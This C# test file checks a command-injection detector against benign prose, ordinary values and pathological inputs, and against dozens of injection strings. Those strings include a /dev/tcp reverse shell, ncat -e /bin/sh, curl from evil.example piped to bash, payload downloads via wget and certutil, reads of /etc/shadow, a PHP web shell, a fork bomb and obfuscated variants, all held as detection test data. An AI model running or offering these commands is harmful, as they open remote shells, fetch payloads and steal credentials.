namespace ServerlessShield.Tests.Inspection.Detectors;

public class CommandInjectionDetectorTests
{
    private readonly CommandInjectionDetector _detector = new();

    // Words of one or two letters are judged from a table built once: every one must read as the lexicon says.
    [Fact]
    public void ShortWords_ReadAsTheLexiconSays()
    {
        const string Letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
        var words = Letters.Select(c => c.ToString()).Concat(Letters.SelectMany(a => Letters.Select(b => $"{a}{b}")));
        foreach (var word in words)
        {
            var namesNoCommand = ShellCommandLexicon.Classify(word) == ShellCommandKind.None && !word.Equals("if", StringComparison.OrdinalIgnoreCase);
            Assert.True(namesNoCommand == InjectedCommandLine.HoldsPlainNonCommandWord(word + " x", 0), word);
        }
    }

    [Theory]
    [InlineData(";echo 12345")]
    [InlineData("|echo 1")]
    [InlineData("x&&printf 31337")]
    [InlineData("8.8.8.8; cat /etc/shadow")]
    [InlineData("report.pdf | nc 203.0.113.9 9001")]
    [InlineData("x && wget http://203.0.113.9/a.sh -O /tmp/a.sh")]
    [InlineData("foo || curl -s https://evil.example/p | bash")]
    [InlineData("name\nuname -a")]
    [InlineData("x%0Aid")]
    [InlineData("abc;id")]
    [InlineData("1;sleep 7")]
    [InlineData("$(whoami)")]
    [InlineData("`uname -r`")]
    [InlineData("file_$(id -u).txt")]
    [InlineData("a;w'h'o'am'i")]
    [InlineData("a;wh\"\"oami")]
    [InlineData("x;c\\at /etc/hosts")]
    [InlineData("x;who$@ami")]
    [InlineData("x;cat${IFS}/etc/group")]
    [InlineData("x;{cat,/etc/issue}")]
    [InlineData("x;/b?n/c?t /etc/hosts")]
    [InlineData("x;/usr/bin/id")]
    [InlineData("x;$u whoami")]
    [InlineData("a=ncat&&$a -e /bin/sh 10.0.0.9 443")]
    [InlineData("bash -i >& /dev/tcp/198.51.100.7/4444 0>&1")]
    [InlineData("x| python3 -c 'import os;os.system(\"id\")'")]
    [InlineData("x; perl -MIO -e 'exit'")]
    [InlineData("x & powershell -enc SQBFAFgA")]
    [InlineData("x & cmd /c type C:\\inetpub\\wwwroot\\web.config")]
    [InlineData("x | net user intruder P4ss! /add")]
    [InlineData("x & reg query HKLM\\Software")]
    [InlineData("x & certutil -urlcache -f http://198.51.100.7/p.exe p.exe")]
    [InlineData("x;Invoke-WebRequest http://198.51.100.7/a.ps1")]
    [InlineData("for /f %i in ('whoami') do echo %i")]
    [InlineData("IF EXIST C:\\temp\\x.txt del C:\\temp\\x.txt")]
    [InlineData("() { :;}; /bin/sh -c id")]
    [InlineData("x; sudo -u root id")]
    [InlineData("x; nohup ncat -l 4444")]
    [InlineData("system('cat /etc/passwd')")]
    [InlineData("<?php passthru($_REQUEST['c']); ?>")]
    [InlineData("<!--#exec cmd=\"ls -la\" -->")]
    [InlineData("cmd=ifconfig")]
    [InlineData("ping -c 3 127.0.0.1")]
    [InlineData("whoami")]
    [InlineData("ls -la /var/www")]
    [InlineData(":(){ :|:& };:")]
    [InlineData("https://shop.example/?q=1&cmd=cat%20/etc/hosts")]
    [InlineData("a;id;")]
    [InlineData("a&WHOAMI")]
    [InlineData("x|DIR C:\\Windows")]
    [InlineData("q;Whoami")]
    [InlineData("IF EXIST C:\\boot.ini ECHO yes")]
    [InlineData("```id```")]
    [InlineData("x\n`id`")]
    [InlineData("a;WhOaMi")]
    [InlineData("x|IpCoNfIg /all")]
    [InlineData("x;w'h'o'am'i")]
    [InlineData("q;id 'x'")]
    public void InjectedCommands_AreDetected(string value)
    {
        Assert.True(DetectorProbe.Fires(_detector, value), value);
    }

    [Theory]
    [InlineData("Tom & Jerry")]
    [InlineData("Salt & pepper; cat food on sale")]
    [InlineData("Meet at 10; time is short")]
    [InlineData("a || b; more or less")]
    [InlineData("x > 5 && y < 10")]
    [InlineData("Use `sudo reboot` only when needed")]
    [InlineData("Run `ls -la` to see hidden files, then `cd ..` to go up")]
    [InlineData("python -m venv env && source env/bin/activate")]
    [InlineData("npm install && npm run build")]
    [InlineData("for (i = 0; i < n; i++) { sum += a[i]; }")]
    [InlineData("for loop in python")]
    [InlineData("If x is odd then x % 2 == 1")]
    [InlineData("Cat, dog; Bird & Fish")]
    [InlineData("Find your order | Track shipment")]
    [InlineData("LS")]
    [InlineData("id")]
    [InlineData("lastlog")]
    [InlineData("Wget is a handy tool")]
    [InlineData("Netstat shows open ports")]
    [InlineData("The echo in the hall; sleep well")]
    [InlineData("Q&A: ping me later")]
    [InlineData("R&D | Sales | HR")]
    [InlineData("https://example.com/search?q=cat+food&sort=date")]
    [InlineData("/search?cat=shoes&type=boots")]
    [InlineData("I'd like the set menu; the kids want the fish")]
    [InlineData("Save as C:\\new\\table.csv")]
    [InlineData("Call me maybe; or text")]
    [InlineData("O'Brien & Sons; est. 1901")]
    [InlineData("`foo`;`bar`")]
    [InlineData("Use ls | grep the names you need to filter")]
    [InlineData("Set the timer to 10; wait; then press the start button")]
    [InlineData("Add alias ll='ls -la' to your shell profile")]
    [InlineData("export PATH=$PATH:/usr/local/go/bin")]
    [InlineData("Cats & dogs; birds | fish")]
    [InlineData("/opt/sbin/tool_name.exe")]
    [InlineData("Zr8&xZ3mQp!v")]
    [InlineData("k2L9|w")]
    [InlineData("P4ss&LS$ecret")]
    [InlineData("Pq7$Kd&ID")]
    [InlineData("Hb5&dU$mm2")]
    [InlineData("data:image/png;base64,R0lGODlhAQABAIAAAP///wAAACH5BAEAAAAALAAAAAABAAEAAAICRAEAOw==")]
    [InlineData("data:application/pdf;base64,JVBERi0xLjcKJeLjz9MK")]
    [InlineData("```bash\nnpm ci\n```")]
    [InlineData("```python\nfor order in orders:\n    print(order.total)\n```")]
    [InlineData("def total(items):\n    return sum(i.price for i in items)")]
    [InlineData("java.lang.IllegalStateException: cart is empty\n\tat com.example.shop.Cart.checkout(Cart.java:88)\n\tat com.example.shop.Api.handle(Api.java:31)")]
    [InlineData("   at Shop.Orders.OrderService.Place(Order order) in /src/Shop/OrderService.cs:line 57")]
    [InlineData("it's 5 o'clock; let's go!")]
    [InlineData("Knock knock; who's there?")]
    public void ProseAndOrdinaryValues_AreNotDetected(string value)
    {
        Assert.False(DetectorProbe.Fires(_detector, value), value);
    }

    [Theory]
    [InlineData(";")]
    [InlineData("|")]
    [InlineData("; a")]
    [InlineData("`")]
    [InlineData("$(")]
    [InlineData("{,")]
    [InlineData("sudo ")]
    [InlineData("a=")]
    [InlineData("\\n")]
    [InlineData("'")]
    public void PathologicalInput_Completes(string unit)
    {
        _ = _detector.IsMatch(DetectorProbe.Repeat(unit));
    }
}
